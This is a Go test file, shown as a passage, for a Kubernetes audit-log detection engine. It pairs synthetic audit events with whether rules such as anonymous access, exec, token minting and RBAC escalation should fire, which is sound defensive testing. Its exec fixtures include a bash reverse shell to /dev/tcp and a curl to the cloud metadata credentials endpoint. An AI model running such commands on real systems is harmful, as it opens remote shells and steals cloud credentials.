package detect

import (
	"fmt"
	"net/netip"
	"sort"
	"strings"
	"testing"
	"time"
)

// ruleCase: the events (each repeated n times, or built by each) go through
// an engine holding every built-in rule; fire says whether rule must alert.
type ruleCase struct {
	rule string
	name string
	fire bool
	e    E
	n    int
	each func(i int) E
	opts Options
	// msg, when set, must be in the alert's message.
	msg string
}

const (
	podPrivileged     = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p","namespace":"default"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":true}}]}}`
	podPlain          = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p","namespace":"default"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":false,"allowPrivilegeEscalation":false}}]}}`
	deployInitPriv    = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web"},"spec":{"template":{"spec":{"initContainers":[{"name":"init","image":"busybox","securityContext":{"privileged":true}}],"containers":[{"name":"c","image":"nginx"}]}}}}`
	cronJobHostPID    = `{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"cj"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"c","image":"busybox"}]}}}}}}`
	dsHostNet         = `{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"ds"},"spec":{"template":{"spec":{"hostNetwork":false,"hostIPC":false,"containers":[{"name":"c","image":"busybox"}]}}}}`
	podHostPathEtc    = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"volumes":[{"name":"v","hostPath":{"path":"/var/../etc/kubernetes/pki/"}}],"containers":[{"name":"c","image":"busybox"}]}}`
	stsHostPathData   = `{"kind":"StatefulSet","apiVersion":"apps/v1","metadata":{"name":"db"},"spec":{"template":{"spec":{"volumes":[{"name":"v","hostPath":{"path":"/mnt/data"}}],"containers":[{"name":"c","image":"postgres"}]}}}}`
	podCapSysAdmin    = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"capabilities":{"add":["cap_sys_admin"]}}}]}}`
	podCapNetBind     = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"busybox","securityContext":{"capabilities":{"add":["NET_BIND_SERVICE"],"drop":["SYS_ADMIN"]}}}]}}`
	minerJob          = `{"kind":"Job","apiVersion":"batch/v1","metadata":{"name":"j"},"spec":{"template":{"spec":{"containers":[{"name":"c","image":"docker.io/evil/xmrig:6.21"}]}}}}`
	crAllWild         = `{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"kube-controller"},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`
	crbKubeController = `{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"kube-controller"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"kube-controller"},"subjects":[{"kind":"ServiceAccount","name":"kube-controller","namespace":"kube-system"}]}`
	roleAllWild       = `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"ops","namespace":"dev"},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`
	rbAllWild         = `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"ops","namespace":"dev"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"ops"},"subjects":[{"kind":"User","name":"mallory"}]}`
	crbClusterAdmin   = `{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"pwn"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"mallory"}]}`
	rbRoleNamedCA     = `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x","namespace":"dev"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"cluster-admin"},"subjects":[{"kind":"User","name":"bob"}]}`
	rbAuthenticated   = `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x","namespace":"dev"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"},"subjects":[{"kind":"Group","name":"system:authenticated","apiGroup":"rbac.authorization.k8s.io"}]}`
	rbGroupDev        = `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"x","namespace":"dev"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"},"subjects":[{"kind":"Group","name":"dev"},{"kind":"ServiceAccount","name":"system:anonymous","namespace":"dev"}]}`
	roleWildVerb      = `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r","namespace":"dev"},"rules":[{"apiGroups":[""],"resources":["configmaps"],"verbs":["*"]}]}`
	roleReadPods      = `{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r"},"rules":[{"apiGroups":[""],"resources":["pods","pods/log"],"verbs":["get","list","watch"]}]}`
	roleEscalate      = `{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r"},"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["get","escalate"]}]}`
	roleSecrets       = `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"r","namespace":"dev"},"rules":[{"apiGroups":[""],"resources":["secrets","configmaps"],"verbs":["get"]},{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}]}`
	svcNodePort       = `{"kind":"Service","apiVersion":"v1","metadata":{"name":"s"},"spec":{"type":"NodePort","ports":[{"port":80}]}}`
	svcClusterIP      = `{"kind":"Service","apiVersion":"v1","metadata":{"name":"s"},"spec":{"type":"ClusterIP","ports":[{"port":80}]}}`
	tokenReq48h       = `{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"audiences":["https://kubernetes.default.svc"],"expirationSeconds":172800}}`
	tokenReq1h        = `{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"audiences":["https://kubernetes.default.svc"],"expirationSeconds":3600}}`
	legacySecret      = `{"kind":"Secret","apiVersion":"v1","metadata":{"name":"t","annotations":{"kubernetes.io/service-account.name":"default"}},"type":"kubernetes.io/service-account-token"}`
	opaqueSecret      = `{"kind":"Secret","apiVersion":"v1","metadata":{"name":"t"},"type":"Opaque","data":{"a":"Yg=="}}`
	nsPrivileged      = `{"kind":"Namespace","apiVersion":"v1","metadata":{"name":"dev","labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`
	nsBaseline        = `{"kind":"Namespace","apiVersion":"v1","metadata":{"name":"dev","labels":{"pod-security.kubernetes.io/enforce":"baseline","pod-security.kubernetes.io/warn":"privileged"}}}`
	podCtrlSA         = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"serviceAccountName":"clusterrole-aggregation-controller","containers":[{"name":"c","image":"busybox"}]}}`
	podCoreDNSSA      = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"p"},"spec":{"serviceAccountName":"coredns","containers":[{"name":"c","image":"busybox"}]}}`
	csrClient         = `{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"c"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client","request":"LS0t","usages":["client auth"]}}`
	ephemeralPatch    = `{"spec":{"ephemeralContainers":[{"name":"debugger","image":"busybox:1.36","targetContainerName":"app"}]}}`
	patchToNodePort   = `{"spec":{"type":"NodePort"}}`
	statusNotFound    = `{"kind":"Status","apiVersion":"v1","status":"Failure","code":404}`
	cmPlain           = `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"app"},"data":{"ui.properties":"color.good=purple\ncolor.bad=yellow\n","LOG_LEVEL":"info"}}`
	cmAWSKeys         = `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"app"},"data":{"access.properties":"aws-s3-access-key-id = AKIAEXAMPLE\naws_secret_access_key = c2VjcmV0\n","ui.properties":"color.good=purple\n"}}`
	cmPassphrase      = `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"app"},"data":{"app.conf":"[tls]\npassphrase: \"correct horse\"\n"}}`
	cmKeyPassword     = `{"data":{"DB_PASSWORD":"hunter2","DB_HOST":"db"}}`
	cmPrivateKey      = `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"tls"},"data":{"tls.crt":"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n","tls.key":"-----BEGIN EC PRIVATE KEY-----\nMHcC\n-----END EC PRIVATE KEY-----\n"}}`
	cmReferences      = `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"app"},"data":{"DB_PASSWORD":"${DB_PASSWORD}","client_secret":"","app.yaml":"password: {{ .Values.password }}\npassword_min_length = 12\ntoken_ttl: 3600\n"}}`
)

var sa = "system:serviceaccount:default:app"

// tokensControllerUA is the user agent of kube-controller-manager's token
// controller (clientbuilder appends the controller's name).
const tokensControllerUA = "kube-controller-manager/v1.36.3 (linux/amd64) kubernetes/abc1234/tokens-controller"

func execURI(cmd ...string) string {
	u := "/api/v1/namespaces/default/pods/web-0/exec?container=web"
	for _, c := range cmd {
		u += "&command=" + strings.NewReplacer(" ", "+", "/", "%2F", "|", "%7C", "&", "%26").Replace(c)
	}
	return u + "&stdin=true&stdout=true&tty=true"
}

func ruleCases() []ruleCase {
	anon := func(e E) E { return e.user("system:anonymous", "system:unauthenticated") }
	ctrl := "system:serviceaccount:kube-system:replicaset-controller"
	node := func(e E) E { return e.user("system:node:n1", "system:nodes", "system:authenticated") }
	return []ruleCase{
		// Initial access
		{rule: "AG-DET-101", name: "anonymous list secrets", fire: true, e: anon(ev("list", "secrets"))},
		{rule: "AG-DET-101", name: "anonymous non-resource path behind a health prefix", fire: true, e: anon(ev("get", "").uri("/healthz/../api/v1/secrets"))},
		{rule: "AG-DET-101", name: "near miss: anonymous livez sub-check", fire: false, e: anon(ev("get", "").uri("/livez/etcd?verbose"))},
		{rule: "AG-DET-101", name: "near miss: anonymous version", fire: false, e: anon(ev("get", "").uri("/version"))},
		{rule: "AG-DET-101", name: "near miss: anonymous denied", fire: false, e: anon(ev("list", "secrets")).forbid()},
		{rule: "AG-DET-706", name: "anonymous list of kube-system Secrets refused", fire: true, msg: "anonymous list secrets in kube-system refused", e: anon(ev("list", "secrets").ns("kube-system")).forbid().code(403)},
		{rule: "AG-DET-706", name: "anonymous discovery refused", fire: true, e: anon(ev("get", "").uri("/apis")).forbid().code(403)},
		{rule: "AG-DET-706", name: "near miss: anonymous readyz sub-check refused", fire: false, e: anon(ev("get", "").uri("/readyz/etcd")).forbid().code(403)},
		{rule: "AG-DET-706", name: "near miss: anonymous list allowed (AG-DET-101)", fire: false, e: anon(ev("list", "secrets"))},
		{rule: "AG-DET-706", name: "near miss: an authenticated user refused", fire: false, e: ev("list", "secrets").user("eve").forbid().code(403)},
		{rule: "AG-DET-102", name: "anonymous create pod", fire: true, e: anon(ev("create", "pods").ns("default"))},
		{rule: "AG-DET-102", name: "near miss: anonymous create denied", fire: false, e: anon(ev("create", "pods").ns("default")).forbid()},
		{rule: "AG-DET-103", name: "20 failed logins from one address", fire: true, n: 20, e: ev("list", "namespaces").user("").noDecision().code(401).ips("203.0.113.7")},
		{rule: "AG-DET-103", name: "near miss: 19 failures", fire: false, n: 19, e: ev("list", "namespaces").user("").noDecision().code(401).ips("203.0.113.7")},
		{rule: "AG-DET-103", name: "near miss: 20 failures spread over addresses", fire: false, each: func(i int) E {
			return ev("list", "namespaces").user("").noDecision().code(401).ips(fmt.Sprintf("203.0.113.%d", i%2))
		}, n: 20},
		{rule: "AG-DET-104", name: "request from outside", fire: true, e: ev("get", "pods").ns("default").ips("198.51.100.9"), opts: Options{AllowCIDRs: prefixes("10.0.0.0/8")}},
		{rule: "AG-DET-104", name: "forged X-Forwarded-For does not hide the peer", fire: true, e: ev("get", "pods").ips("10.1.1.1", "198.51.100.9"), opts: Options{AllowCIDRs: prefixes("10.0.0.0/8")}},
		{rule: "AG-DET-104", name: "near miss: inside", fire: false, e: ev("get", "pods").ips("10.1.2.3"), opts: Options{AllowCIDRs: prefixes("10.0.0.0/8")}},
		{rule: "AG-DET-105", name: "SA token from outside pod and node ranges", fire: true, msg: "bound to pod web-0",
			e:    ev("get", "secrets").ns("default").user(sa).extra("authentication.kubernetes.io/pod-name", "web-0").ips("198.51.100.9"),
			opts: Options{PodCIDRs: prefixes("10.244.0.0/16"), NodeCIDRs: prefixes("192.168.1.0/24")}},
		{rule: "AG-DET-105", name: "near miss: SA token from a node", fire: false, e: ev("get", "secrets").user(sa).ips("192.168.1.20"),
			opts: Options{PodCIDRs: prefixes("10.244.0.0/16"), NodeCIDRs: prefixes("192.168.1.0/24")}},
		{rule: "AG-DET-105", name: "near miss: a person from outside", fire: false, e: ev("get", "secrets").ips("198.51.100.9"),
			opts: Options{PodCIDRs: prefixes("10.244.0.0/16")}},
		{rule: "AG-DET-110", name: "bootstrap token lists pods", fire: true, e: ev("list", "pods").user("system:bootstrap:abcdef", "system:bootstrappers", "system:bootstrappers:kubeadm:default-node-token")},
		{rule: "AG-DET-110", name: "near miss: kubelet TLS bootstrap creates its CSR", fire: false, e: ev("create", "certificatesigningrequests.certificates.k8s.io").user("system:bootstrap:abcdef", "system:bootstrappers")},
		{rule: "AG-DET-110", name: "near miss: kubeadm join reads cluster-info", fire: false, e: ev("get", "configmaps").ns("kube-public").name("cluster-info").user("system:bootstrap:abcdef", "system:bootstrappers")},
		{rule: "AG-DET-106", name: "node created by a user", fire: true, e: ev("create", "nodes").name("rogue")},
		{rule: "AG-DET-106", name: "near miss: kubelet registers itself", fire: false, e: node(ev("create", "nodes").name("n1"))},
		{rule: "AG-DET-107", name: "NodePort service created", fire: true, e: ev("create", "services").ns("default").req(svcNodePort)},
		{rule: "AG-DET-107", name: "patch to NodePort read from the response", fire: true, e: ev("patch", "services").ns("default").name("s").req(patchToNodePort).resp(svcNodePort)},
		{rule: "AG-DET-107", name: "near miss: ClusterIP service", fire: false, e: ev("create", "services").ns("default").req(svcClusterIP)},

		// Execution
		{rule: "AG-DET-201", name: "exec over websocket (get), command decoded", fire: true, msg: "cat /etc/hostname",
			e: ev("get", "pods/exec").ns("default").name("web-0").uri(execURI("cat", "/etc/hostname")).code(101)},
		{rule: "AG-DET-201", name: "exec with create that the kubelet failed", fire: true, e: ev("create", "pods/exec").ns("default").name("web-0").code(400)},
		{rule: "AG-DET-201", name: "near miss: exec denied", fire: false, e: ev("create", "pods/exec").ns("default").name("web-0").forbid()},
		{rule: "AG-DET-201", name: "near miss: pods/log", fire: false, e: ev("get", "pods/log").ns("default").name("web-0")},
		{rule: "AG-DET-202", name: "attach", fire: true, e: ev("get", "pods/attach").ns("default").name("web-0")},
		{rule: "AG-DET-202", name: "near miss: attach denied", fire: false, e: ev("create", "pods/attach").ns("default").name("web-0").forbid()},
		{rule: "AG-DET-203", name: "reverse shell", fire: true, e: ev("create", "pods/exec").ns("default").name("web-0").uri(execURI("bash", "-c", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"))},
		{rule: "AG-DET-203", name: "metadata service", fire: true, e: ev("create", "pods/exec").ns("default").name("web-0").uri(execURI("curl", "-s", "http://169.254.169.254/latest/meta-data/iam/"))},
		{rule: "AG-DET-203", name: "near miss: ordinary command", fire: false, e: ev("create", "pods/exec").ns("default").name("web-0").uri(execURI("ls", "-la", "/tmp"))},
		{rule: "AG-DET-204", name: "port-forward", fire: true, e: ev("create", "pods/portforward").ns("default").name("db-0").uri("/api/v1/namespaces/default/pods/db-0/portforward?ports=5432")},
		{rule: "AG-DET-204", name: "near miss: denied", fire: false, e: ev("get", "pods/portforward").ns("default").name("db-0").forbid()},
		{rule: "AG-DET-205", name: "service proxy", fire: true, e: ev("get", "services/proxy").ns("default").name("web:80")},
		{rule: "AG-DET-205", name: "near miss: services get", fire: false, e: ev("get", "services").ns("default").name("web")},
		{rule: "AG-DET-206", name: "ephemeral container patch", fire: true, msg: "busybox:1.36", e: ev("patch", "pods/ephemeralcontainers").ns("default").name("web-0").req(ephemeralPatch)},
		{rule: "AG-DET-206", name: "near miss: read ephemeralcontainers", fire: false, e: ev("get", "pods/ephemeralcontainers").ns("default").name("web-0")},
		{rule: "AG-DET-207", name: "pod in kube-system by a person", fire: true, e: ev("create", "pods").ns("kube-system").req(podPlain)},
		{rule: "AG-DET-207", name: "near miss: mirror pod by kubelet", fire: false, e: node(ev("create", "pods").ns("kube-system").req(podPlain))},
		{rule: "AG-DET-207", name: "near miss: pod by the ReplicaSet controller", fire: false, e: ev("create", "pods").ns("kube-system").user(ctrl).req(podPlain)},
		// Falco's "Pod Created in Kube Namespace" covers kube-public too; the
		// pods of a workload come from its controller, so the workload is
		// where its author shows.
		{rule: "AG-DET-207", name: "pod in kube-public by a person", fire: true, e: ev("create", "pods").ns("kube-public").req(podPlain)},
		{rule: "AG-DET-207", name: "Deployment in kube-system by a person", fire: true, e: ev("create", "deployments.apps").ns("kube-system").req(deployInitPriv)},
		{rule: "AG-DET-207", name: "CronJob in kube-node-lease by a ServiceAccount", fire: true, e: ev("create", "cronjobs.batch").ns("kube-node-lease").user(sa).req(cronJobHostPID)},
		{rule: "AG-DET-207", name: "near miss: Deployment in an app namespace", fire: false, e: ev("create", "deployments.apps").ns("default").req(deployInitPriv)},
		{rule: "AG-DET-207", name: "near miss: ReplicaSet by the Deployment controller", fire: false, e: ev("create", "replicasets.apps").ns("kube-system").user("system:serviceaccount:kube-system:deployment-controller")},
		{rule: "AG-DET-207", name: "near miss: kube-system ConfigMap", fire: false, e: ev("create", "configmaps").ns("kube-system").req(cmPlain)},

		// Persistence
		{rule: "AG-DET-301", name: "SA in kube-system", fire: true, e: ev("create", "serviceaccounts").ns("kube-system").name("backdoor")},
		{rule: "AG-DET-301", name: "near miss: SA in an app namespace", fire: false, e: ev("create", "serviceaccounts").ns("default").name("app")},
		{rule: "AG-DET-301", name: "near miss: service-account controller", fire: false, e: ev("create", "serviceaccounts").ns("kube-public").name("default").user("system:serviceaccount:kube-system:service-account-controller")},
		{rule: "AG-DET-302", name: "token for a kube-system SA", fire: true, e: ev("create", "serviceaccounts/token").ns("kube-system").name("clusterrole-aggregation-controller")},
		{rule: "AG-DET-317", name: "node reports a privileged mirror pod named like kube-proxy", fire: true, msg: "system:node:n1 created pod kube-system/kube-proxy-n1 with host access", e: node(ev("create", "pods").ns("kube-system").name("kube-proxy-n1").req(podPrivileged))},
		{rule: "AG-DET-317", name: "node reports a hostPath static pod", fire: true, e: node(ev("create", "pods").ns("default").name("agent-n1").req(podHostPathEtc))},
		{rule: "AG-DET-317", name: "near miss: the control plane's kube-apiserver static pod", fire: false, e: node(ev("create", "pods").ns("kube-system").name("kube-apiserver-n1").req(podHostPathEtc))},
		{rule: "AG-DET-317", name: "near miss: node reports a plain mirror pod", fire: false, e: node(ev("create", "pods").ns("kube-system").name("web-n1").req(podPlain))},
		{rule: "AG-DET-317", name: "near miss: a person creates the privileged pod (AG-DET-409)", fire: false, e: ev("create", "pods").ns("kube-system").name("kube-proxy-n1").req(podPrivileged)},
		{rule: "AG-DET-318", name: "bootstrap token planted", fire: true, e: ev("create", "secrets").ns("kube-system").name("bootstrap-token-q1w2e3")},
		{rule: "AG-DET-318", name: "bootstrap token planted, name only in the body", fire: true, e: ev("create", "secrets").ns("kube-system").req(`{"kind":"Secret","apiVersion":"v1","metadata":{"name":"bootstrap-token-q1w2e3"},"type":"bootstrap.kubernetes.io/token"}`)},
		{rule: "AG-DET-318", name: "near miss: another Secret in kube-system", fire: false, e: ev("create", "secrets").ns("kube-system").name("cloud-config")},
		{rule: "AG-DET-318", name: "near miss: the token cleaner", fire: false, e: ev("delete", "secrets").ns("kube-system").name("bootstrap-token-q1w2e3").user("system:serviceaccount:kube-system:token-cleaner")},
		{rule: "AG-DET-302", name: "near miss: kubelet projected token", fire: false, e: node(ev("create", "serviceaccounts/token").ns("kube-system").name("coredns"))},
		{rule: "AG-DET-303", name: "48h token", fire: true, msg: "48h", e: ev("create", "serviceaccounts/token").ns("default").name("app").req(tokenReq48h)},
		{rule: "AG-DET-303", name: "near miss: 1h token", fire: false, e: ev("create", "serviceaccounts/token").ns("default").name("app").req(tokenReq1h)},
		{rule: "AG-DET-304", name: "person mints a token", fire: true, e: ev("create", "serviceaccounts/token").ns("default").name("app")},
		{rule: "AG-DET-304", name: "near miss: SA mints a token", fire: false, e: ev("create", "serviceaccounts/token").ns("default").name("app").user(sa)},
		{rule: "AG-DET-305", name: "legacy token secret", fire: true, e: ev("create", "secrets").ns("default").req(legacySecret)},
		{rule: "AG-DET-305", name: "near miss: Opaque secret", fire: false, e: ev("create", "secrets").ns("default").req(opaqueSecret)},
		{rule: "AG-DET-314", name: "token controller fills a legacy token secret", fire: true, msg: "filled legacy token Secret default/legacy-token",
			e: ev("update", "secrets").ns("default").name("legacy-token").user("system:kube-controller-manager", "system:authenticated").ua(tokensControllerUA).code(200)},
		{rule: "AG-DET-314", name: "near miss: the token controller's update conflicts", fire: false,
			e: ev("update", "secrets").ns("default").name("legacy-token").user("system:kube-controller-manager", "system:authenticated").ua(tokensControllerUA).code(409)},
		{rule: "AG-DET-314", name: "near miss: another controller updates a secret", fire: false,
			e: ev("update", "secrets").ns("default").name("tls").user("system:kube-controller-manager", "system:authenticated").ua("kube-controller-manager/v1.36.3 (linux/amd64) kubernetes/abc/generic-garbage-collector").code(200)},
		{rule: "AG-DET-306", name: "client CSR by a person", fire: true, msg: "kube-apiserver-client", e: ev("create", "certificatesigningrequests.certificates.k8s.io").req(csrClient)},
		{rule: "AG-DET-306", name: "near miss: bootstrap token", fire: false, e: ev("create", "certificatesigningrequests.certificates.k8s.io").user("system:bootstrap:abcdef", "system:bootstrappers:kubeadm:default-node-token").req(csrClient)},
		// first seen: learning is the first 24h of event time the rule sees
		{rule: "AG-DET-108", name: "curl after a day of kubectl", fire: true, msg: "used curl for the first time", n: 3, each: steps(
			ev("list", "pods").ns("dev").user("bob").ua("kubectl/v1.36.3 (linux/amd64) kubernetes/abc"),
			ev("get", "pods").ns("dev").name("p").user("bob").ua("kubectl/v1.35.0 (darwin/arm64) kubernetes/def").at(25*time.Hour),
			ev("get", "secrets").ns("dev").name("db").user("bob").ua("curl/8.5.0").at(26*time.Hour))},
		{rule: "AG-DET-108", name: "near miss: curl while learning", fire: false, n: 2, each: steps(
			ev("list", "pods").ns("dev").user("bob").ua("kubectl/v1.36.3"),
			ev("get", "secrets").ns("dev").name("db").user("bob").ua("curl/8.5.0").at(2*time.Hour))},
		{rule: "AG-DET-108", name: "near miss: a new identity's first client", fire: false, n: 2, each: steps(
			ev("list", "pods").ns("dev").user("bob").ua("kubectl/v1.36.3"),
			ev("list", "pods").ns("dev").user("carol").ua("curl/8.5.0").at(30*time.Hour))},
		{rule: "AG-DET-109", name: "a token from another /16 after a day in the pod network", fire: true, msg: "in 203.0.0.0/16 where it was never used", n: 3, each: steps(
			ev("list", "configmaps").ns("default").user(sa, "system:serviceaccounts", "system:authenticated").ips("10.244.1.5"),
			ev("list", "configmaps").ns("default").user(sa, "system:serviceaccounts", "system:authenticated").ips("10.244.7.9").at(25*time.Hour),
			ev("list", "secrets").ns("default").user(sa, "system:serviceaccounts", "system:authenticated").ips("203.0.113.9").at(26*time.Hour))},
		{rule: "AG-DET-109", name: "near miss: the pod moved to another node of the pod network", fire: false, n: 2, each: steps(
			ev("list", "configmaps").ns("default").user(sa, "system:serviceaccounts", "system:authenticated").ips("10.244.1.5"),
			ev("list", "configmaps").ns("default").user(sa, "system:serviceaccounts", "system:authenticated").ips("10.244.200.3").at(25*time.Hour))},
		{rule: "AG-DET-109", name: "near miss: a person from a new network (AG-DET-108's territory is clients)", fire: false, n: 2, each: steps(
			ev("list", "pods").ns("default").user("bob").ips("10.0.0.5"),
			ev("list", "pods").ns("default").user("bob").ips("203.0.113.9").at(25*time.Hour))},
		{rule: "AG-DET-417", name: "a newcomer binds a role after the learning day", fire: true, msg: "mallory took a sensitive action for the first time", n: 2, each: steps(
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("a").user("admin").code(201),
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("b").user("mallory").code(201).at(25*time.Hour))},
		{rule: "AG-DET-417", name: "near miss: the known administrator again", fire: false, n: 2, each: steps(
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("a").user("admin").code(201),
			ev("create", "pods/exec").ns("dev").name("p").uri(execURI("sh")).user("admin").at(25*time.Hour))},
		{rule: "AG-DET-417", name: "near miss: a newcomer reading pods", fire: false, n: 2, each: steps(
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("a").user("admin").code(201),
			ev("list", "pods").ns("dev").user("mallory").at(25*time.Hour))},
		// AG-DET-418: a controller's risky pod whose owner's write is not in the log
		{rule: "AG-DET-418", name: "privileged pod of a ReplicaSet never written in the log", fire: true, msg: "from ReplicaSet web-abc with a risky spec", e: rsPod(podOwnedPriv)},
		{rule: "AG-DET-418", name: "host-path pod of a ReplicaSet written more than a day before", fire: true, n: 2, each: steps(
			ev("create", "replicasets.apps").ns("default").name("web-abc").user(rsController, ctrlGroups...).code(201),
			rsPod(podOwnedHostPath).at(25*time.Hour))},
		{rule: "AG-DET-418", name: "near miss: the ReplicaSet's write is in the log", fire: false, n: 2, each: steps(
			ev("create", "replicasets.apps").ns("default").name("web-abc").user("system:serviceaccount:kube-system:deployment-controller", ctrlGroups...).code(201),
			rsPod(podOwnedPriv))},
		{rule: "AG-DET-418", name: "only another ReplicaSet's write is in the log", fire: true, n: 2, each: steps(
			ev("create", "replicasets.apps").ns("default").name("other").user(rsController, ctrlGroups...).code(201),
			rsPod(podOwnedPriv))},
		{rule: "AG-DET-418", name: "near miss: a plain pod", fire: false, e: rsPod(podOwnedPlain)},
		{rule: "AG-DET-418", name: "near miss: a person's privileged pod (AG-DET-409)", fire: false, e: ev("create", "pods").ns("default").name("web-abc-1").req(podOwnedPriv).code(201)},
		// sequences: each event of the list in turn
		{rule: "AG-DET-315", name: "CSR created then approved by its creator", fire: true, msg: "which it had created", n: 2, each: steps(
			ev("create", "certificatesigningrequests.certificates.k8s.io").name("mine").user("mallory").code(201),
			ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("mine").user("mallory"))},
		{rule: "AG-DET-315", name: "near miss: approved by someone else", fire: false, n: 2, each: steps(
			ev("create", "certificatesigningrequests.certificates.k8s.io").name("mine").user("mallory").code(201),
			ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("mine").user("admin"))},
		{rule: "AG-DET-315", name: "near miss: approved more than an hour later", fire: false, n: 2, each: steps(
			ev("create", "certificatesigningrequests.certificates.k8s.io").name("mine").user("mallory").code(201),
			ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("mine").user("mallory").at(2*time.Hour))},
		{rule: "AG-DET-315", name: "near miss: approval before the create (not in order)", fire: false, n: 2, each: steps(
			ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("mine").user("mallory"),
			ev("create", "certificatesigningrequests.certificates.k8s.io").name("mine").user("mallory").code(201))},
		{rule: "AG-DET-316", name: "ServiceAccount created then a token for it", fire: true, msg: "kube-system/helper", n: 3, each: steps(
			ev("create", "serviceaccounts").ns("kube-system").name("helper").user("mallory").code(201),
			ev("get", "pods").ns("kube-system").user("mallory"),
			ev("create", "serviceaccounts/token").ns("kube-system").name("helper").user("mallory").code(201))},
		{rule: "AG-DET-316", name: "near miss: a token for another account", fire: false, n: 2, each: steps(
			ev("create", "serviceaccounts").ns("kube-system").name("helper").user("mallory").code(201),
			ev("create", "serviceaccounts/token").ns("kube-system").name("default").user("mallory").code(201))},
		{rule: "AG-DET-316", name: "near miss: the create was refused", fire: false, n: 2, each: steps(
			ev("create", "serviceaccounts").ns("kube-system").name("helper").user("mallory").forbid().code(403),
			ev("create", "serviceaccounts/token").ns("kube-system").name("helper").user("mallory").code(201))},
		{rule: "AG-DET-506", name: "ClusterRoleBinding created then deleted by its creator", fire: true, msg: "which it had created", n: 2, each: steps(
			ev("create", "clusterrolebindings.rbac.authorization.k8s.io").name("tmp-admin").user("mallory").req(crbClusterAdmin).code(201),
			ev("delete", "clusterrolebindings.rbac.authorization.k8s.io").name("tmp-admin").user("mallory").at(20*time.Minute))},
		{rule: "AG-DET-506", name: "RoleBinding created then deleted through impersonation of the creator", fire: true, n: 2, each: steps(
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("x").user("mallory").code(201),
			ev("delete", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("x").user("system:serviceaccount:ci:robot").imp("mallory"))},
		{rule: "AG-DET-506", name: "near miss: a binding of the same name in another namespace", fire: false, n: 2, each: steps(
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("x").user("mallory").code(201),
			ev("delete", "rolebindings.rbac.authorization.k8s.io").ns("prod").name("x").user("mallory"))},
		{rule: "AG-DET-506", name: "near miss: deleted by the namespace controller", fire: false, n: 2, each: steps(
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("x").user("mallory").code(201),
			ev("delete", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("x").user("system:serviceaccount:kube-system:namespace-controller", "system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"))},
